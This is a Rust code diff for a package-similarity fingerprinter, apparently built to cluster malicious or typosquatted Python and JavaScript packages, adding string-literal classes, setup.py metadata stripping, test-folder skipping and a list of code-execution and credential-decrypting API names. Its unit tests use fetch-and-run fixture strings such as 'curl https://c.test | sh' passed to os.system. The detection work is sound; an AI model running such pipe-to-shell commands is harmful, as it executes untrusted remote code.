@@ -6,6 +6,12 @@
 //! `subprocess`, `b64decode`, `child_process`, `exec` ...) are kept. A renamed copy of a
 //! package (new package name, new identifiers, new C2 string) therefore yields the same tokens.
 //!
+//! [`FingerprintOptions`] holds measurement variants, all off by default (see
+//! `bench/RESULTS.md`, 2026-11-21 session 3: none raised the precision of similar edges):
+//! string literal classes or URL hosts ([`StringMode`]), dropping `setup(...)` arguments,
+//! leaving out test / doc / example folders, and keeping only shingles around code-execution
+//! APIs ([`PAYLOAD_APIS`]).
+//!
 //! Why a lexer and not tree-sitter leaves: normalisation only needs the token class, which a
 //! lexer gives exactly; it accepts Python 2, minified and truncated files identically; and it is
 //! about an order of magnitude faster, which matters for the 100k-package scale target.
@@ -36,6 +42,20 @@ pub struct CodeFingerprint {
     pub modules: Vec<String>,
 }
 
+/// How string literals are normalised.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
+pub enum StringMode {
+    /// Every string literal is one token `STR`.
+    #[default]
+    Opaque,
+    /// A string literal becomes the token of its class: empty, URL, path, blob (long
+    /// base64 / hex), single word, text with spaces. A renamed copy with a new webhook or
+    /// new C2 keeps its classes.
+    Classes,
+    /// As [`StringMode::Classes`], but a URL keeps its host (`https://h.test/x` -> `url:h.test`).
+    ClassesAndHosts,
+}
+
 /// Options of [`fingerprint_with`].
 #[derive(Debug, Clone, Copy, PartialEq, Eq)]
 pub struct FingerprintOptions {
@@ -43,13 +63,60 @@ pub struct FingerprintOptions {
     pub shingle: usize,
     /// Keep well-known API names (`system`, `b64decode` ...) instead of normalising them to `ID`.
     pub keep_api_names: bool,
+    /// Normalisation of string literals.
+    pub strings: StringMode,
+    /// Leave out the arguments of `setup(...)` calls in `setup.py` (packaging metadata: name,
+    /// version, classifiers, long description ...): they are the same across unrelated
+    /// packages and say nothing about behaviour. The call itself is kept as `setup ( )`.
+    pub drop_setup_arguments: bool,
+    /// Leave out files under test, documentation, example and demo folders (`tests/`,
+    /// `docs/`, `examples/`, `demos/` ...) when the package has other code: they do not run
+    /// when the package is installed or imported, and a typosquat that ships a library's
+    /// test suite would otherwise look like every other package that ships it.
+    pub skip_non_runtime: bool,
+    /// Keep only shingles that contain a code-execution, download or decoding API
+    /// ([`PAYLOAD_APIS`]): similarity over what the package does rather than over the
+    /// library code it wraps.
+    pub payload_only: bool,
 }
+
+/// API names whose shingles are kept by [`FingerprintOptions::payload_only`].
+pub const PAYLOAD_APIS: &[&str] = &[
+    "exec",
+    "eval",
+    "compile",
+    "__import__",
+    "system",
+    "popen",
+    "Popen",
+    "call",
+    "check_call",
+    "check_output",
+    "spawn",
+    "startfile",
+    "b64decode",
+    "decompress",
+    "marshal",
+    "urlopen",
+    "urlretrieve",
+    "webhook",
+    "Webhook",
+    "CryptUnprotectData",
+    "child_process",
+    "execSync",
+    "spawnSync",
+    "dup2",
+];
 
 impl Default for FingerprintOptions {
     fn default() -> Self {
         FingerprintOptions {
             shingle: DEFAULT_SHINGLE,
             keep_api_names: true,
+            strings: StringMode::Opaque,
+            drop_setup_arguments: false,
+            skip_non_runtime: false,
+            payload_only: false,
         }
     }
 }
@@ -89,6 +156,30 @@ fn skipped_path(path: &str) -> bool {
         ) || seg.ends_with(".egg-info")
             || seg.ends_with(".dist-info")
     })
+}
+
+/// Folder names whose files do not run when a package is installed or imported.
+const NON_RUNTIME_DIRS: &[&str] = &[
+    "test",
+    "tests",
+    "testing",
+    "doc",
+    "docs",
+    "example",
+    "examples",
+    "demo",
+    "demos",
+    "benchmark",
+    "benchmarks",
+];
+
+/// Whether a path (without the archive's top folder) lies under a test, documentation,
+/// example or demo folder.
+fn non_runtime_path(rel: &str) -> bool {
+    let mut segs: Vec<&str> = rel.split('/').collect();
+    segs.pop();
+    segs.iter()
+        .any(|s| NON_RUNTIME_DIRS.contains(&s.to_ascii_lowercase().as_str()))
 }
 
 /// Path without the archive's top folder (`pkg-1.0/pkg/x.py` -> `pkg/x.py`).
@@ -153,6 +244,13 @@ fn vendored_dirs(files: &[PackageFile]) -> BTreeSet<String> {
 pub fn fingerprint_with(files: &[PackageFile], opts: FingerprintOptions) -> CodeFingerprint {
     let k = opts.shingle.max(1);
     let vendored = vendored_dirs(files);
+    // non-runtime files are left out only when the package has other code
+    let skip_non_runtime = opts.skip_non_runtime
+        && files.iter().any(|f| {
+            lang_of(&f.path).is_some()
+                && !skipped_path(&f.path)
+                && !non_runtime_path(strip_top(&f.path))
+        });
     let mut shingles: Vec<u64> = Vec::new();
     let mut digests: Vec<[u8; 32]> = Vec::new();
     let mut modules = BTreeSet::new();
@@ -173,13 +271,22 @@ pub fn fingerprint_with(files: &[PackageFile], opts: FingerprintOptions) -> Code
         {
             continue;
         }
+        if skip_non_runtime && non_runtime_path(rel) {
+            continue;
+        }
         if lang == Lang::Python
             && let Some(m) = own_module(rel)
         {
             modules.insert(m);
         }
         toks.clear();
-        lex(&f.data, lang, opts.keep_api_names, &mut toks);
+        lex(&f.data, lang, opts.keep_api_names, opts.strings, &mut toks);
+        if opts.drop_setup_arguments
+            && lang == Lang::Python
+            && rel.rsplit('/').next() == Some("setup.py")
+        {
+            drop_setup_arguments(&mut toks);
+        }
         if toks.is_empty() {
             continue;
         }
@@ -192,7 +299,17 @@ pub fn fingerprint_with(files: &[PackageFile], opts: FingerprintOptions) -> Code
         let mut arr = [0u8; 32];
         arr.copy_from_slice(&d);
         digests.push(arr);
-        if toks.len() < k {
+        if opts.payload_only {
+            let payload: Vec<u64> = PAYLOAD_APIS
+                .iter()
+                .map(|a| hash_bytes(a.as_bytes()))
+                .collect();
+            for w in toks.windows(k.min(toks.len())) {
+                if w.iter().any(|t| payload.contains(t)) {
+                    shingles.push(shingle_hash(w));
+                }
+            }
+        } else if toks.len() < k {
             shingles.push(shingle_hash(&toks));
         } else {
             for w in toks.windows(k) {
@@ -520,7 +637,7 @@ fn is_ident_cont(c: u8) -> bool {
 
 /// Lex `src` into normalised token hashes. Never fails: unknown bytes become operator tokens,
 /// unterminated strings end at the end of input.
-fn lex(src: &[u8], lang: Lang, keep_api: bool, out: &mut Vec<u64>) {
+fn lex(src: &[u8], lang: Lang, keep_api: bool, strings: StringMode, out: &mut Vec<u64>) {
     let n = src.len();
     let mut i = 0usize;
     while i < n {
@@ -566,8 +683,9 @@ fn lex(src: &[u8], lang: Lang, keep_api: bool, out: &mut Vec<u64>) {
                     .iter()
                     .all(|b| matches!(b.to_ascii_lowercase(), b'r' | b'b' | b'u' | b'f'))
             {
+                let q = i;
                 i = skip_string(src, i, lang);
-                out.push(T_STR);
+                out.push(string_token(&src[q..i], strings));
                 continue;
             }
             let word = &src[start..i];
@@ -586,13 +704,96 @@ fn lex(src: &[u8], lang: Lang, keep_api: bool, out: &mut Vec<u64>) {
             continue;
         }
         if c == b'"' || c == b'\'' || (lang == Lang::JavaScript && c == b'`') {
+            let q = i;
             i = skip_string(src, i, lang);
-            out.push(T_STR);
+            out.push(string_token(&src[q..i], strings));
             continue;
         }
         out.push(hash_bytes(&[c]));
         i += 1;
     }
+}
+
+/// The token of a string literal (`lit` includes its quotes) under `mode`.
+fn string_token(lit: &[u8], mode: StringMode) -> u64 {
+    if mode == StringMode::Opaque {
+        return T_STR;
+    }
+    let q = lit.first().copied().unwrap_or(b'"');
+    let mut body = lit;
+    for _ in 0..3 {
+        body = body.strip_prefix(&[q]).unwrap_or(body);
+        body = body.strip_suffix(&[q]).unwrap_or(body);
+    }
+    if body.is_empty() {
+        return hash_bytes(b"\x00str:empty");
+    }
+    if let Some(p) = body.windows(3).position(|w| w == b"://") {
+        if mode == StringMode::ClassesAndHosts {
+            let rest = &body[p + 3..];
+            let end = rest
+                .iter()
+                .position(|&c| {
+                    matches!(c, b'/' | b':' | b'?' | b'#' | b'\\' | b'@') || c.is_ascii_whitespace()
+                })
+                .unwrap_or(rest.len());
+            let host = rest[..end].to_ascii_lowercase();
+            if !host.is_empty() {
+                let mut key = b"\x00url:".to_vec();
+                key.extend_from_slice(&host);
+                return hash_bytes(&key);
+            }
+        }
+        return hash_bytes(b"\x00str:url");
+    }
+    let spaces = body.iter().any(|c| c.is_ascii_whitespace());
+    if !spaces
+        && body.len() >= 40
+        && body
+            .iter()
+            .all(|&c| c.is_ascii_alphanumeric() || matches!(c, b'+' | b'/' | b'=' | b'-' | b'_'))
+    {
+        return hash_bytes(b"\x00str:blob");
+    }
+    if spaces {
+        return hash_bytes(b"\x00str:text");
+    }
+    if body.contains(&b'/') || body.contains(&b'\\') {
+        return hash_bytes(b"\x00str:path");
+    }
+    hash_bytes(b"\x00str:word")
+}
+
+/// Remove the arguments of every `setup(...)` call (not `def setup(`) from a token stream,
+/// keeping `setup ( )`. An unclosed call loses everything after its `(`.
+fn drop_setup_arguments(toks: &mut Vec<u64>) {
+    let setup = hash_bytes(b"setup");
+    let def = hash_bytes(b"def");
+    let open = hash_bytes(b"(");
+    let close = hash_bytes(b")");
+    let mut out = Vec::with_capacity(toks.len());
+    let mut i = 0;
+    while i < toks.len() {
+        out.push(toks[i]);
+        if toks[i] == setup && toks.get(i + 1) == Some(&open) && (i == 0 || toks[i - 1] != def) {
+            out.push(open);
+            let mut depth = 1usize;
+            let mut j = i + 2;
+            while j < toks.len() && depth > 0 {
+                if toks[j] == open {
+                    depth += 1;
+                } else if toks[j] == close {
+                    depth -= 1;
+                }
+                j += 1;
+            }
+            out.push(close);
+            i = j;
+            continue;
+        }
+        i += 1;
+    }
+    *toks = out;
 }
 
 /// Skip a string literal starting at the quote `src[i]`; returns the index after it.
@@ -674,6 +875,130 @@ mod tests {
         assert!(fp.tokens > 0);
     }
 
+    fn fp_with(files: &[(&str, &str)], opts: FingerprintOptions) -> CodeFingerprint {
+        let fs: Vec<PackageFile> = files.iter().map(|(p, c)| file(p, c)).collect();
+        fingerprint_with(&fs, opts)
+    }
+
+    #[test]
+    fn string_classes_and_hosts() {
+        let classes = FingerprintOptions {
+            strings: StringMode::Classes,
+            ..FingerprintOptions::default()
+        };
+        let hosts = FingerprintOptions {
+            strings: StringMode::ClassesAndHosts,
+            ..FingerprintOptions::default()
+        };
+        let code = |s: &str| format!("import os\nx = os.getenv('HOME')\nos.system({s})\n");
+        let url_a = code("'curl https://a.test/x | sh'");
+        let url_a2 = code("\"wget https://A.test:8080/other\"");
+        let url_b = code("'curl https://b.test/x | sh'");
+        let word = code("'whoami'");
+        let fp = |c: &str, o| fp_with(&[("p-1/p.py", c)], o).shingles;
+        // opaque: every literal is STR
+        let d = FingerprintOptions::default();
+        assert_eq!(fp(&url_a, d), fp(&word, d));
+        // classes: a URL is not a word, but every URL is alike
+        assert_ne!(fp(&url_a, classes), fp(&word, classes));
+        assert_eq!(fp(&url_a, classes), fp(&url_b, classes));
+        // hosts: the same host (any case, port, path) matches, another host does not
+        assert_eq!(fp(&url_a, hosts), fp(&url_a2, hosts));
+        assert_ne!(fp(&url_a, hosts), fp(&url_b, hosts));
+        let c = StringMode::Classes;
+        assert_eq!(string_token(b"''", c), hash_bytes(b"\x00str:empty"));
+        assert_eq!(string_token(b"'''x y'''", c), hash_bytes(b"\x00str:text"));
+        assert_eq!(string_token(b"'C:/x/y'", c), hash_bytes(b"\x00str:path"));
+        let blob = format!("'{}'", "QUJD".repeat(12));
+        assert_eq!(
+            string_token(blob.as_bytes(), c),
+            hash_bytes(b"\x00str:blob")
+        );
+    }
+
+    #[test]
+    fn setup_arguments_are_dropped() {
+        let o = FingerprintOptions {
+            drop_setup_arguments: true,
+            ..FingerprintOptions::default()
+        };
+        let a = "import os\nos.system('x')\nsetup(name='a', version='1', classifiers=['A', 'B'], packages=find_packages())\n";
+        let b = "import os\nos.system('y')\nsetup(\n    name='b',\n    author=(\"me\"),\n)\n";
+        let fa = fp_with(&[("a-1/setup.py", a)], o);
+        let fb = fp_with(&[("b-1/setup.py", b)], o);
+        assert_eq!(fa.shingles, fb.shingles);
+        assert_eq!(fa.normalized_sha256, fb.normalized_sha256);
+        // without the option the metadata differs
+        let d = FingerprintOptions::default();
+        assert_ne!(
+            fp_with(&[("a-1/setup.py", a)], d).shingles,
+            fp_with(&[("b-1/setup.py", b)], d).shingles
+        );
+        // only in setup.py, and never a definition `def setup(...)`
+        assert_ne!(fp_with(&[("a-1/a/x.py", a)], o).shingles, fb.shingles);
+        let mut t = Vec::new();
+        lex(
+            b"def setup(a, b): pass",
+            Lang::Python,
+            true,
+            StringMode::Opaque,
+            &mut t,
+        );
+        let before = t.len();
+        drop_setup_arguments(&mut t);
+        assert_eq!(t.len(), before);
+        // an unclosed call does not panic: `setup ( )` is left
+        let mut t = Vec::new();
+        lex(
+            b"setup(name='x'",
+            Lang::Python,
+            true,
+            StringMode::Opaque,
+            &mut t,
+        );
+        drop_setup_arguments(&mut t);
+        assert_eq!(t.len(), 3);
+    }
+
+    #[test]
+    fn test_suites_are_left_out_when_there_is_other_code() {
+        let o = FingerprintOptions {
+            skip_non_runtime: true,
+            ..FingerprintOptions::default()
+        };
+        let suite = "import os\ndef test_a():\n    assert os.path.exists('x')\n";
+        let own = "import os\nos.system('curl https://c.test | sh')\n";
+        let both = [("p-1/p/__init__.py", own), ("p-1/tests/test_a.py", suite)];
+        let without = fp_with(&[("q-2/q/__init__.py", own)], o);
+        assert_eq!(fp_with(&both, o).shingles, without.shingles);
+        let d = FingerprintOptions::default();
+        assert_ne!(fp_with(&both, d).shingles, without.shingles);
+        // a package that is only tests keeps them
+        assert!(fp_with(&[("p-1/tests/test_a.py", suite)], o).tokens > 0);
+        // a file named like a test in the package's own folder is runtime code
+        assert!(!non_runtime_path("p/test.py"));
+        assert!(non_runtime_path("src/p/Docs/conf.py"));
+    }
+
+    #[test]
+    fn payload_only_keeps_execution_shingles() {
+        let o = FingerprintOptions {
+            payload_only: true,
+            ..FingerprintOptions::default()
+        };
+        let lib = "def f(a, b):\n    return [x + 1 for x in a if x > b]\n";
+        let pay = "import os\nos.system('curl https://c.test | sh')\n";
+        let only_lib = fp_with(&[("p-1/p/util.py", lib)], o);
+        assert!(only_lib.shingles.is_empty());
+        let both = fp_with(&[("p-1/p/util.py", lib), ("p-1/p/__init__.py", pay)], o);
+        let just = fp_with(&[("q-1/q/__init__.py", pay)], o);
+        assert!(!just.shingles.is_empty());
+        assert_eq!(both.shingles, just.shingles);
+        // a file shorter than a shingle still counts when it holds a payload API
+        let short = fp_with(&[("r-1/r.py", "exec(x)")], o);
+        assert_eq!(short.shingles.len(), 1);
+    }
+
     #[test]
     fn js_template_and_comments() {
         let mut v = Vec::new();
@@ -681,6 +1006,7 @@ mod tests {
             b"const a = require('child_process'); // c\n a.exec(`x`)",
             Lang::JavaScript,
             true,
+            StringMode::Opaque,
             &mut v,
         );
         // const ID = require ( STR ) ; ID . exec ( STR )
